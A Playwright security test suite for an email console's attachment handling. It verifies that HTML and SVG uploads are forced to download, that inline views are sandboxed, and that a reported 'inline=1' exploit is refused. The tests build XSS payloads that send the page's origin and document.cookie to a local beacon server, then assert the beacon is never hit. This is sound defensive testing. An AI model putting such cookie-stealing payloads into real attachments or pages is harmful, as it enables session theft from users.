import http from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page } from "@playwright/test";
import { SHARED_DOMAIN } from "./env";

/**
 * Issue 10 #2, in a real browser against the production build: an HTML or SVG attachment never runs
 * script on the console's origin. Every payload calls a beacon server if its script runs, and sets
 * the title; neither may happen. Inline display (only for safe types) is sandboxed: the document's
 * origin is opaque ("null"), not the console's.
 */
test.describe.configure({ mode: "serial" });

const suffix = Date.now().toString(36);
const USER = { name: "Uma Uploader", email: `uploader-${suffix}@example.com`, password: "uploader password 123" };

let beaconHits: string[] = [];
let beacon: http.Server;
let beaconUrl = "";
let key = "";
const links: Record<string, { downloadUrl: string; shareUrl: string }> = {};
const linkOf = (name: string) => {
  const found = links[name];
  if (!found) throw new Error(`no links for ${name} (the setup test runs first)`);
  return found;
};

test.beforeAll(async () => {
  beacon = http.createServer((req, res) => {
    beaconHits.push(req.url ?? "");
    res.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("ok");
  });
  await new Promise<void>((resolve) => beacon.listen(0, "127.0.0.1", resolve));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise<void>((resolve) => beacon.close(() => resolve()));
});

/** Script that proves it ran: a beacon request with its origin, and a changed title. */
const payload = (tag: string) =>
  `fetch(${JSON.stringify(beaconUrl)} + "/ran?${tag}&origin=" + encodeURIComponent(self.origin) + "&cookie=" + encodeURIComponent(document.cookie)); new Image().src = ${JSON.stringify(beaconUrl)} + "/img?${tag}"; document.title = "pwned-${tag}";`;

async function createAccountAndKey(page: Page): Promise<string> {
  await page.goto("/sign-up");
  await page.getByLabel("Name").fill(USER.name);
  await page.getByLabel("Email").fill(USER.email);
  await page.getByLabel("Password").fill(USER.password);
  await page.getByRole("button", { name: "Create account" }).click();
  await expect(page.getByRole("heading", { name: "Create your organization" })).toBeVisible();
  await page.getByLabel("Organization name").fill(`Uploads ${suffix}`);
  await page.getByRole("button", { name: "Create organization" }).click();
  await expect(page.getByRole("heading", { name: "Overview", level: 1 })).toBeVisible();
  await page.getByRole("navigation", { name: "Console" }).getByRole("link", { name: "API keys", exact: true }).click();
  await page.getByLabel("Name", { exact: true }).fill("uploads key");
  await page.getByRole("checkbox", { name: "admin", exact: true }).check();
  await page.getByRole("button", { name: "Create key" }).click();
  const secret = ((await page.getByTestId("new-key-secret").textContent()) ?? "").trim();
  expect(secret).toMatch(/^svc_(live|test)_/);
  return secret;
}

test("setup: an account, a key, and a message with hostile attachments", async ({ page }) => {
  key = await createAccountAndKey(page);
  const auth = { Authorization: `Bearer ${key}` };
  const inbox = await page.request.post("/v1/inboxes", {
    headers: auth,
    data: { address: `uploads-${suffix}@${SHARED_DOMAIN}` },
  });
  expect(inbox.status()).toBe(200);
  const files = [
    {
      filename: "page.html",
      contentType: "text/html",
      content: `<!doctype html><title>page</title><script>${payload("html")}</script><h1 id="x">html</h1>`,
    },
    {
      filename: "pic.svg",
      contentType: "image/svg+xml",
      content: `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${payload("svg")}</script><rect width="10" height="10"/></svg>`,
    },
    // An HTML body declared as plain text: shown inline, as text (nosniff), script inert.
    { filename: "notes.txt", contentType: "text/plain", content: `<script>${payload("txt")}</script>` },
    // An HTML body declared as an image: nosniff keeps it an (invalid) image.
    { filename: "fake.png", contentType: "image/png", content: `<script>${payload("png")}</script>` },
  ];
  const sent = await page.request.post("/v1/messages", {
    headers: auth,
    data: {
      inboxId: (await inbox.json()).inbox.id,
      to: "someone@example.com",
      text: "attachments",
      attachments: files.map((f) => ({
        filename: f.filename,
        contentType: f.contentType,
        contentBase64: Buffer.from(f.content).toString("base64"),
      })),
    },
  });
  expect(sent.status()).toBe(200);
  const message = await (await page.request.get(`/v1/messages/${(await sent.json()).id}`, { headers: auth })).json();
  for (const a of message.message.attachments as { id: string; filename: string }[]) {
    const res = await page.request.get(`/v1/attachments/${a.id}/download-url?expiresInSeconds=600`, { headers: auth });
    expect(res.status()).toBe(200);
    links[a.filename] = await res.json();
  }
  expect(Object.keys(links).sort()).toEqual(["fake.png", "notes.txt", "page.html", "pic.svg"]);
});

test("HTML and SVG attachments are downloaded, never rendered, whichever link is opened", async ({ page }) => {
  beaconHits = [];
  await page.goto("/sign-in");
  for (const name of ["page.html", "pic.svg"]) {
    for (const url of [linkOf(name).downloadUrl, linkOf(name).shareUrl]) {
      const [download] = await Promise.all([page.waitForEvent("download"), page.goto(url).catch(() => null)]);
      expect(download.suggestedFilename()).toBe(name);
    }
  }
  // The headers the browser got survive the console's global ones (next.config.ts).
  const res = await page.request.get(linkOf("page.html").shareUrl);
  expect(res.headers()["content-disposition"]).toMatch(/^attachment;/);
  expect(res.headers()["content-security-policy"]).toMatch(/(^|; )sandbox(;|$)/);
  expect(res.headers()["x-content-type-options"]).toBe("nosniff");
  await page.waitForTimeout(500);
  expect(beaconHits).toEqual([]);
});

test("the issue's exploit, inline=1 added to a download link, is refused", async ({ page }) => {
  beaconHits = [];
  for (const name of ["page.html", "pic.svg"]) {
    const url = new URL(linkOf(name).downloadUrl);
    url.searchParams.set("inline", "1");
    const res = await page.goto(url.toString());
    expect(res?.status()).toBe(403);
    await expect(page.locator("body")).toContainText("invalid or has expired");
  }
  expect(beaconHits).toEqual([]);
});

test("inline types are shown sandboxed: an opaque origin, no script, no requests", async ({ page }) => {
  beaconHits = [];
  const txt = await page.goto(linkOf("notes.txt").shareUrl);
  expect(txt?.status()).toBe(200);
  await expect(page.locator("body")).toContainText("<script>");
  expect(await page.evaluate(() => self.origin)).toBe("null");
  expect(await page.title()).not.toContain("pwned");
  const png = await page.goto(linkOf("fake.png").shareUrl);
  expect(png?.status()).toBe(200);
  expect(png?.headers()["content-type"]).toBe("image/png");
  expect(await page.evaluate(() => self.origin)).toBe("null");
  expect(await page.title()).not.toContain("pwned");
  await page.waitForTimeout(500);
  expect(beaconHits).toEqual([]);
});
